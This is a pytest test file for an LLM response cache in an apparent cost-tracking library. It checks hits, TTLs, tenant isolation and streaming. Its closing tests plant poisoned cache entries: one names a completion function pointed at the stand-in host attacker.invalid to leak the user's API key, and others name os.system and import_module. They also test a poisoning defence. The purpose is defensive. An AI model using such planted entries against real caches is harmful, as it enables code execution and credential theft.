"""ExactCache: a hit is the SDK object, free, with the original cost; what must not be cached is not."""

from __future__ import annotations

import asyncio

import pytest
from _cache_helpers import Provider, chat_call, completion, pipeline, with_usage_chunk
from openai.types.chat import ChatCompletion

from costkit import Result, Tags
from costkit._warn import CostkitWarning
from costkit.errors import ConfigError
from costkit.policies.cache.exact import ExactCache
from costkit.policies.cache.stores import DiskStore, MemoryStore, RedisStore


@pytest.fixture
def cache() -> ExactCache:
    return ExactCache(MemoryStore())


def test_second_identical_call_is_a_hit_with_the_sdk_object_and_original_cost(cache: ExactCache) -> None:
    provider = Provider(cost=0.0025)
    p = pipeline(cache, provider)
    first = p.run(chat_call())
    second = p.run(chat_call())
    assert len(provider.calls) == 1
    assert first.source == "provider" and second.source == "exact"
    assert isinstance(second.raw, ChatCompletion)
    assert second.raw == first.raw and second.raw is not first.raw
    assert second.text == "Paris." and second.cost_usd == 0.0025
    assert second.usage.input_tokens == 12 and second.usage.output_tokens == 3
    assert second.notes["cache_key"] == cache.key(chat_call())
    assert cache.stats["hits"] == 1 and cache.stats["misses"] == 1 and cache.stats["stored"] == 1


def test_different_question_params_or_requested_model_miss(cache: ExactCache) -> None:
    provider = Provider()
    p = pipeline(cache, provider)
    p.run(chat_call())
    p.run(chat_call("What is the capital of Spain?"))
    p.run(chat_call(max_tokens=5))
    p.run(chat_call(model="gpt-4o"))
    p.run(chat_call(seed=3))
    assert len(provider.calls) == 5


def test_routed_model_still_hits(cache: ExactCache) -> None:
    provider = Provider()
    p = pipeline(cache, provider)
    p.run(chat_call())
    assert p.run(chat_call().with_model("gpt-4o")).source == "exact"


def test_tenants_never_share_entries(cache: ExactCache) -> None:
    provider = Provider(make=lambda call: completion(f"answer for {call.tags.tenant}"))
    p = pipeline(cache, provider)
    tenants = [f"t{i}" for i in range(20)]
    for t in tenants:
        p.run(chat_call(tags=Tags(tenant=t)))
    for t in tenants:
        r = p.run(chat_call(tags=Tags(tenant=t)))
        assert r.source == "exact" and r.text == f"answer for {t}"
    assert len(provider.calls) == 20


def test_user_scope_is_opt_in() -> None:
    provider = Provider()
    shared = pipeline(ExactCache(MemoryStore()), provider)
    shared.run(chat_call(tags=Tags(user="u1")))
    assert shared.run(chat_call(tags=Tags(user="u2"))).source == "exact"
    private = pipeline(ExactCache(MemoryStore(), scope_user=True), provider)
    private.run(chat_call(tags=Tags(user="u1")))
    assert private.run(chat_call(tags=Tags(user="u2"))).source == "provider"


def test_normalize_option() -> None:
    provider = Provider()
    p = pipeline(ExactCache(MemoryStore(), normalize=True), provider)
    p.run(chat_call("What is the  capital of France? "))
    assert p.run(chat_call("What is the capital of France?")).source == "exact"


@pytest.mark.parametrize("params", [{"temperature": 0.7}, {"temperature": None}, {"temperature": 0, "n": 2}])
def test_sampled_calls_bypass_unless_allowed(params: dict) -> None:
    provider = Provider()
    cache = ExactCache(MemoryStore())
    p = pipeline(cache, provider)
    call = chat_call(**params)
    if params.get("temperature", 0) is None:
        call = call.evolve(params={k: v for k, v in call.params.items() if k != "temperature"})
    p.run(call)
    p.run(call)
    assert len(provider.calls) == 2 and cache.stats["bypass:sampled"] == 2
    allowing = pipeline(ExactCache(MemoryStore(), cache_sampled=True), provider)
    allowing.run(call)
    assert allowing.run(call).source == "exact"


@pytest.mark.parametrize(
    ("raw", "reason"),
    [
        (completion("Par", finish="length"), "length"),
        (completion(None, refusal="I can't help with that."), "refusal"),
        (completion(None, finish="content_filter"), "content_filter"),
        (
            completion(
                None,
                finish="tool_calls",
                tool_calls=[{"id": "c1", "type": "function", "function": {"name": "f", "arguments": "{}"}}],
            ),
            "tool_calls",
        ),
    ],
)
def test_unfit_answers_are_not_stored(raw, reason: str, cache: ExactCache) -> None:
    provider = Provider(make=lambda call: raw)
    p = pipeline(cache, provider)
    p.run(chat_call())
    assert p.run(chat_call()).source == "provider"
    assert len(provider.calls) == 2
    assert cache.stats[f"not_stored:{reason}"] == 2


def test_tool_calls_cached_when_allowed() -> None:
    tc = [{"id": "c1", "type": "function", "function": {"name": "f", "arguments": "{}"}}]
    provider = Provider(make=lambda call: completion(None, finish="tool_calls", tool_calls=tc))
    p = pipeline(ExactCache(MemoryStore(), cache_tool_calls=True), provider)
    p.run(chat_call())
    hit = p.run(chat_call())
    assert hit.source == "exact" and hit.tool_calls[0]["function"]["name"] == "f"


def test_errors_are_not_cached(cache: ExactCache) -> None:
    outcomes = [RuntimeError("provider down"), completion()]
    provider = Provider(make=lambda call: outcomes.pop(0))
    p = pipeline(cache, provider)
    with pytest.raises(RuntimeError):
        p.run(chat_call())
    assert p.run(chat_call()).source == "provider"
    assert p.run(chat_call()).source == "exact"


def test_stream_is_stored_once_consumed_and_hit_is_non_stream(cache: ExactCache) -> None:
    provider = Provider()
    p = pipeline(cache, provider)
    streamed = p.run(chat_call(stream=True))
    assert streamed.stream is not None
    assert cache.stats["stored"] == 0
    chunks = list(streamed.stream)
    assert chunks and cache.stats["stored"] == 1
    hit = p.run(chat_call(stream=True))  # stream=True does not change the key
    assert hit.source == "exact" and hit.stream is None and isinstance(hit.raw, ChatCompletion)
    assert hit.text == "Paris."
    assert p.run(chat_call()).source == "exact"


class _TextAccumulator:
    """Folds plain-text chunks (the stream shape does not matter to the cache)."""

    def __init__(self) -> None:
        self.parts: list[str] = []

    def add(self, chunk: str) -> bool:
        self.parts.append(chunk)
        return True

    def result(self) -> Result:
        return Result(text="".join(self.parts), finish_reason="stop", raw=completion("".join(self.parts)))


def test_stream_closed_early_is_not_stored(cache: ExactCache) -> None:
    from costkit._pipeline import Pipeline
    from costkit._stream import ResultStream

    calls = []

    def terminal(call):
        calls.append(call)
        return Result(stream=ResultStream(["Par", "is."], _TextAccumulator()))

    p = Pipeline([cache], terminal)
    streamed = p.run(chat_call(stream=True))
    next(iter(streamed.stream))
    streamed.stream.close()
    assert cache.stats["not_stored:stream_incomplete"] == 1
    assert p.run(chat_call()).source == "provider"
    assert len(calls) == 2
    list(p.run(chat_call(stream=True)).stream)  # consumed to the end: stored
    assert p.run(chat_call()).source == "exact" and len(calls) == 3


def test_ttl_per_feature_and_route() -> None:
    provider = Provider()
    cache = ExactCache(MemoryStore(), ttl_s=3600, ttl_by_feature={"news": 0, "faq": 60}, ttl_by_route={"r": 5})
    assert cache.rules.ttl_for(chat_call()) == 3600
    assert cache.rules.ttl_for(chat_call(tags=Tags(feature="faq"))) == 60
    assert cache.rules.ttl_for(chat_call(tags=Tags(feature="faq", route="r"))) == 5
    p = pipeline(cache, provider)
    p.run(chat_call(tags=Tags(feature="news")))
    assert p.run(chat_call(tags=Tags(feature="news"))).source == "provider"
    assert cache.stats["bypass:ttl_zero"] == 2


def test_ttl_expiry() -> None:
    import time

    provider = Provider()
    p = pipeline(ExactCache(MemoryStore(), ttl_s=0.2), provider)
    p.run(chat_call())
    assert p.run(chat_call()).source == "exact"
    time.sleep(0.3)
    assert p.run(chat_call()).source == "provider"


def test_invalidation_by_corpus_version_tag_and_clear(cache: ExactCache) -> None:
    provider = Provider()
    p = pipeline(cache, provider)
    v1 = Tags(tenant="a", corpus_version="v1", feature="faq")
    p.run(chat_call(tags=v1))
    assert p.run(chat_call(tags=Tags(tenant="a", corpus_version="v2", feature="faq"))).source == "provider"
    assert cache.invalidate(corpus_version="v1") == 1
    assert p.run(chat_call(tags=v1)).source == "provider"
    assert cache.invalidate(feature="faq") == 2
    p.run(chat_call(tags=Tags(tenant="b")))
    assert cache.clear() >= 1
    assert p.run(chat_call(tags=Tags(tenant="b"))).source == "provider"
    with pytest.raises(ConfigError):
        cache.invalidate(color="red")


def test_namespaces_share_a_store_but_not_entries() -> None:
    store = MemoryStore()
    provider = Provider()
    a, b = ExactCache(store, namespace="a"), ExactCache(store, namespace="b")
    pipeline(a, provider).run(chat_call())
    assert pipeline(b, provider).run(chat_call()).source == "provider"
    b.clear()
    assert pipeline(a, provider).run(chat_call()).source == "exact"


def test_semantic_hits_are_not_promoted(cache: ExactCache) -> None:
    provider = Provider()

    def semantic_answer(call):
        return provider(call).evolve(source="semantic")

    from costkit._pipeline import Pipeline

    p = Pipeline([cache], semantic_answer)
    p.run(chat_call())
    assert cache.stats["not_stored:not_from_provider"] == 1


def test_disk_store_persists_across_instances(tmp_path) -> None:
    provider = Provider()
    pipeline(ExactCache(DiskStore(tmp_path)), provider).run(chat_call())
    hit = pipeline(ExactCache(str(tmp_path)), provider).run(chat_call())
    assert hit.source == "exact" and isinstance(hit.raw, ChatCompletion) and len(provider.calls) == 1


def test_corrupt_entry_is_a_miss_with_warning(cache: ExactCache) -> None:
    provider = Provider()
    p = pipeline(cache, provider)
    key = cache.key(chat_call())
    cache.store.set(key, {"result": {"v": 1, "raw": {"type": "os.system", "data": {}}}})
    with pytest.warns(CostkitWarning, match="unreadable exact-cache entry"):
        assert p.run(chat_call()).source == "provider"
    assert cache.stats["corrupt"] == 1
    assert p.run(chat_call()).source == "exact"


def test_unreachable_redis_never_fails_the_call() -> None:
    provider = Provider()
    cache = ExactCache(RedisStore("redis://127.0.0.1:1/0", timeout_s=0.1))
    p = pipeline(cache, provider)
    with pytest.warns(CostkitWarning):
        assert p.run(chat_call()).text == "Paris."
        assert p.run(chat_call()).text == "Paris."
    assert len(provider.calls) == 2


def test_redis_store_shared_between_caches(redis_url: str) -> None:
    provider = Provider()
    pipeline(ExactCache(redis_url), provider).run(chat_call())
    assert pipeline(ExactCache(RedisStore(redis_url)), provider).run(chat_call()).source == "exact"


async def test_async_hit_and_store(cache: ExactCache) -> None:
    provider = Provider()
    p = pipeline(cache, provider)
    assert (await p.arun(chat_call())).source == "provider"
    hit = await p.arun(chat_call())
    assert hit.source == "exact" and len(provider.calls) == 1


async def test_async_stream_stored_after_consumption(redis_url: str) -> None:
    from costkit._stream import AsyncResultStream, ReplaySource
    from costkit.providers.openai import ChatAdapter

    adapter = ChatAdapter()
    cache = ExactCache(redis_url)
    calls = []

    async def terminal(call):
        calls.append(call)
        r = adapter.to_result(call, completion())
        chunks = list(adapter.replay(with_usage_chunk(call), r))
        return r.evolve(raw=None, stream=AsyncResultStream(ReplaySource(chunks), adapter.accumulator(call)))

    from costkit._pipeline import Pipeline

    p = Pipeline([cache], lambda c: None, terminal)  # type: ignore[arg-type,return-value]
    r = await p.arun(chat_call(stream=True))
    async for _ in r.stream:
        pass
    for _ in range(50):
        if cache.stats["stored"]:
            break
        await asyncio.sleep(0.01)
    hit = await p.arun(chat_call(stream=True))
    assert hit.source == "exact" and hit.text == "Paris." and len(calls) == 1


def test_config_errors() -> None:
    for kwargs, field in [
        ({"ttl_s": 0}, "ttl_s"),
        ({"ttl_by_feature": {"faq": -1}}, "ttl_by_feature['faq']"),
        ({"ttl_by_route": ["x"]}, "ttl_by_route"),
        ({"namespace": ""}, "namespace"),
        ({"store": 3.5}, "store"),
    ]:
        with pytest.raises(ConfigError) as e:
            ExactCache(**{"store": MemoryStore(), **kwargs})
        assert e.value.field == field


def test_public_name() -> None:
    import costkit

    assert costkit.ExactCache is ExactCache


def test_through_the_wrapped_openai_client_stream_replayed_as_sdk_chunks() -> None:
    import os

    os.environ.setdefault("LITELLM_LOCAL_MODEL_COST_MAP", "True")
    import costkit
    from costkit.sinks import MemorySink
    from costkit.testing import FakeOpenAI

    sink = MemorySink()
    fake = FakeOpenAI()
    client = costkit.wrap(fake, policies=[ExactCache(MemoryStore())], sink=sink)
    msgs = [{"role": "user", "content": "What is the capital of France?"}]
    first = list(client.chat.completions.create(model="gpt-4o-mini", messages=msgs, temperature=0, stream=True))
    again = list(client.chat.completions.create(model="gpt-4o-mini", messages=msgs, temperature=0, stream=True))
    plain = client.chat.completions.create(model="gpt-4o-mini", messages=msgs, temperature=0)
    assert len(fake.fake.calls) == 1
    assert type(again[0]).__name__ == "ChatCompletionChunk"
    text = "".join(c.choices[0].delta.content or "" for c in again if c.choices)
    assert text == "".join(c.choices[0].delta.content or "" for c in first if c.choices)
    assert isinstance(plain, ChatCompletion) and plain.choices[0].message.content == text
    call, *hits = sink.records
    assert call.kind == "call" and call.cost_usd > 0
    assert [h.cache for h in hits] == ["exact", "exact"]
    assert all(h.cost_usd == 0 and h.saved_usd == call.cost_usd for h in hits)


# ------------------------------------------------------------------ stored data is untrusted input


def _planted(raw_doc: object) -> dict:
    return {
        "result": {"v": 1, "text": "PWNED", "tool_calls": [], "finish_reason": "stop", "usage": [1, 1, 0, 0, False],
                   "model": "gpt-4o-mini", "cost_usd": 0.0, "raw": raw_doc},
        "at": 0.0,
    }


PLANTS = [
    # the reported attack: a stored "type" naming a function that sends the user's API key elsewhere
    {"type": "litellm.completion", "data": {"model": "gpt-4o", "messages": [], "api_base": "http://attacker.invalid"}},
    # a real SDK class, of another API (a litellm ModelResponse as an openai chat answer)
    {"type": "litellm.types.utils.ModelResponse", "data": {"id": "x", "choices": []}},
    # an import path: must not import anything, and must not fail the call
    {"type": "importlib.import_module", "data": {"name": "antigravity"}},
    # the right class with data that does not validate
    {"type": "openai.types.chat.chat_completion.ChatCompletion", "data": {"choices": 7}},
]


@pytest.mark.parametrize("plant", PLANTS, ids=["litellm.completion", "other-api-class", "import_module", "invalid"])
@pytest.mark.parametrize("backend", ["disk", "redis"])
def test_a_planted_entry_never_runs_code_and_is_dropped_as_a_miss(
    plant: dict, backend: str, tmp_path, request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch
) -> None:
    import litellm

    sent: list[dict] = []
    monkeypatch.setattr(litellm, "completion", lambda **kw: sent.append(kw))
    store = DiskStore(tmp_path / "c") if backend == "disk" else RedisStore(request.getfixturevalue("redis_url"))
    cache = ExactCache(store)
    store.set(cache.key(chat_call()), _planted(plant), ttl_s=None, labels=[])
    provider = Provider()
    with pytest.warns(CostkitWarning, match="unreadable"):
        result = pipeline(cache, provider).run(chat_call())
    assert result.source == "provider" and result.text == "Paris."
    assert sent == [] and len(provider.calls) == 1
    assert cache.stats["corrupt"] == 1
    assert store.get(cache.key(chat_call())) is not None  # replaced by the provider's answer, not the plant
    assert pipeline(cache, provider).run(chat_call()).text == "Paris."
    assert len(provider.calls) == 1


def test_a_cache_that_only_sees_sampled_calls_says_so_once_naming_the_fix() -> None:
    """anthropic 2.x's messages.create takes no temperature: every call counts as sampled and, before,
    was never cached with nothing to tell the user."""
    import warnings

    from costkit.providers.anthropic import MessagesAdapter

    adapter = MessagesAdapter()
    call = adapter.to_call(
        {"model": "claude-haiku-4-5", "max_tokens": 10, "messages": [{"role": "user", "content": "hi"}]}, Tags()
    )
    cache = ExactCache(MemoryStore())
    p = pipeline(cache, Provider())
    with warnings.catch_warnings(record=True) as seen:
        warnings.simplefilter("always")
        for _ in range(150):
            p.run(call)
    said = [str(w.message) for w in seen if issubclass(w.category, CostkitWarning)]
    assert len(said) == 1 and "cache_sampled=True" in said[0] and "anthropic's SDK takes no temperature" in said[0]
    assert cache.stats["bypass:sampled"] == 150
    opted_in = ExactCache(MemoryStore(), cache_sampled=True)
    q = pipeline(opted_in, provider := Provider())
    sampled = chat_call(temperature=None)
    q.run(sampled)
    assert q.run(sampled).source == "exact" and len(provider.calls) == 1


# ------------------------------------------------------------------ poisoning defence (min_distinct_users)


def test_an_entry_serves_other_users_only_after_min_distinct_users_asked_it() -> None:
    """A planted answer (the attacker asked first) reaches nobody else until 3 distinct users asked."""
    provider = Provider(make=lambda call: completion(f"answer written for {call.tags.user}"))
    p = pipeline(ExactCache(MemoryStore(), min_distinct_users=3), provider)
    assert p.run(chat_call(tags=Tags(user="attacker"))).text == "answer written for attacker"
    assert p.run(chat_call(tags=Tags(user="attacker"))).source == "exact"  # its writer is served
    alice = p.run(chat_call(tags=Tags(user="alice")))
    assert alice.source == "provider" and alice.text == "answer written for alice"
    assert p.run(chat_call(tags=Tags(user="alice"))).source == "provider"  # asking twice counts once
    assert p.run(chat_call()).source == "provider"  # an anonymous call never counts
    bob = p.run(chat_call(tags=Tags(user="bob")))  # the third distinct user: the entry is shared from now on
    assert bob.source == "provider"
    for user in ("carol", "alice", None):
        assert p.run(chat_call(tags=Tags(user=user))).source == "exact"
    assert len(provider.calls) == 5


def test_distinct_users_are_counted_in_the_store_across_processes(tmp_path) -> None:
    """Two caches on one directory (two processes) share the count: it lives in the entry."""
    provider = Provider()
    first = pipeline(ExactCache(DiskStore(tmp_path), min_distinct_users=2), provider)
    second = pipeline(ExactCache(DiskStore(tmp_path), min_distinct_users=2), provider)
    first.run(chat_call(tags=Tags(user="u1")))
    assert second.run(chat_call(tags=Tags(user="u2"))).source == "provider"
    assert first.run(chat_call(tags=Tags(user="u3"))).source == "exact"
    assert len(provider.calls) == 2


async def test_min_distinct_users_async_and_entries_store_hashed_users_only() -> None:
    store = MemoryStore()
    cache = ExactCache(store, min_distinct_users=2)
    provider = Provider()
    p = pipeline(cache, provider)
    await p.arun(chat_call(tags=Tags(user="alice@example.com")))
    assert (await p.arun(chat_call(tags=Tags(user="bob")))).source == "provider"
    assert (await p.arun(chat_call(tags=Tags(user="carol")))).source == "exact"
    entry = store.get(cache.key(chat_call()))
    assert len(entry["users"]) == 2 and "alice@example.com" not in str(entry)
    assert cache.stats["not_shared"] == 1


def test_min_distinct_users_is_checked() -> None:
    with pytest.raises(ConfigError) as err:
        ExactCache(MemoryStore(), min_distinct_users=0)
    assert err.value.field == "min_distinct_users"
